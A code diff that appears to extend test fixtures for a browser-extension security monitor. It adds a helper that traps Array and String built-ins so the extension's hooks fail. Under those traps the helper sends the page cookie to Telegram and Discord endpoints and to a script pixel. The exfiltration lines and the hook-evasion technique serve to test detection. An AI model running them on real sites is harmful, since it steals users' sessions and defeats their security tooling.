@@ -23,6 +23,7 @@ export type Realm =
   | 'range-insert'
   | 'shadow-html'
   | 'outer-html'
+  | 'document-write'
   | 'srcdoc-by-index';
 
 /** The frame the page added last, by index: not through `contentWindow`, which Saq hooks. */
@@ -51,6 +52,9 @@ function realmExpression(realm: Realm): string {
       return `(() => { const host = document.createElement('div'); document.body.appendChild(host); host.attachShadow({ mode: 'closed' }).innerHTML = '<iframe style="display:none"></iframe>'; return ${LAST_FRAME}; })()`;
     case 'outer-html':
       return `(() => { const box = document.createElement('div'); box.style.display = 'none'; document.body.appendChild(box); box.appendChild(document.createElement('span')).outerHTML = '<iframe></iframe>'; return ${LAST_FRAME}; })()`;
+    case 'document-write':
+      // The helper runs as the parser reaches it (a parser-blocking script), so the written frame is created at once.
+      return `(() => { document.write('<iframe style="display:none"></iframe>'); return ${LAST_FRAME}; })()`;
     case 'srcdoc-by-index':
       return `await new Promise((resolve) => { const f = document.createElement('iframe'); f.style.display = 'none'; f.srcdoc = '<p>clean</p>'; f.onload = () => resolve(${LAST_FRAME}); document.body.appendChild(f); })`;
   }
@@ -327,6 +331,51 @@ export const LYING_INDEX_SETTERS = `(() => {
   });
   window.__indexSettersLie = true;
 })();`;
+
+/**
+ * A helper that traps the built-ins Saq's page-world code could call only while it acts, so the page's own
+ * code never meets the traps: Array.prototype map/forEach/slice/includes/every, String.prototype
+ * slice/includes/trim/toUpperCase/toLowerCase/split and the String and Number globals throw, and the array
+ * iterator yields nothing. Under the traps it sends the cookie to a Telegram bot by fetch and to a Discord
+ * webhook by XHR, inserts a script pixel, runs a string timer and makes a same-origin frame (Saq hooks the
+ * frame's realm as the helper reaches it); once they are lifted it inserts a script with the frame's own
+ * appendChild. An extension whose hooks call those built-ins throws inside them and loses each act; one
+ * whose frame hooks are installed by for…of hooks nothing in the frame.
+ */
+export function trappedBuiltinsAttack(tag: string): string {
+  return `(() => {
+  ${PRELUDE}
+  const trap = function () { throw new Error('trapped by the page'); };
+  const saved = [];
+  const set = (owner, key, value) => {
+    saved.push([owner, key, Object.getOwnPropertyDescriptor(owner, key)]);
+    Object.defineProperty(owner, key, { value, writable: true, configurable: true });
+  };
+  const arm = () => {
+    for (const key of ['map', 'forEach', 'slice', 'includes', 'every']) set(Array.prototype, key, trap);
+    for (const key of ['slice', 'includes', 'trim', 'toUpperCase', 'toLowerCase', 'split']) set(String.prototype, key, trap);
+    set(window, 'String', trap);
+    set(window, 'Number', trap);
+    set(Array.prototype, Symbol.iterator, function* () {}); // last: the loops above need it
+  };
+  // By index, last in first out: the traps are still set while this runs.
+  const disarm = () => { for (let i = saved.length - 1; i >= 0; i--) Object.defineProperty(saved[i][0], saved[i][1], saved[i][2]); };
+  const cookie = document.cookie || 'sid=?';
+  let frame = null;
+  arm();
+  try {
+    step('fetch exfiltration', () => fetch(${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: cookie }));
+    step('xhr exfiltration', () => { const x = new XMLHttpRequest(); x.open('post', ${JSON.stringify(discordUrl(tag))}); x.send(cookie); });
+    step('script pixel', () => { const s = document.createElement('script'); s.type = ' text/javascript '; s.src = 'https://${HELPER_CDN}/${tag}-pixel.js?c=' + encodeURIComponent(cookie); document.head.appendChild(s); });
+    step('string timer', () => setTimeout('window.__' + ${JSON.stringify(tag.replace(/-/g, '_'))} + '_timer = true; /* ${tag} */', 0));
+    step('frame', () => { const f = document.createElement('iframe'); f.style.display = 'none'; document.body.appendChild(f); frame = f.contentWindow; });
+  } finally {
+    disarm();
+  }
+  step('frame appendChild', () => { const s = document.createElement('script'); s.src = 'https://${HELPER_CDN}/${tag}-by-frame.js'; frame.Node.prototype.appendChild.call(document.head, s); });
+  window.__trapsLifted = true;
+})();`;
+}
 
 /** The text of the inline script the hash-forging helper inserts (its SHA-256 is what Saq must report). */
 export const HASHED_INLINE = 'window.__hashedInlineRan = true; /* helper payload */';
